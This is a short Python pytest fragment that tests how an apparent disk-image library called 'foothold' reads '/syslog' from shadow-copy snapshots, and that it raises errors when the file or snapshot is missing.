    with pytest.raises(FileNotFoundError):
        live.read("/syslog")
    assert len(foothold.open(img, snapshot=1).read("/syslog")) == 1247
    with pytest.raises(foothold.FootholdError, match="no shadow copy 3"):
        foothold.open(img, snapshot=3)
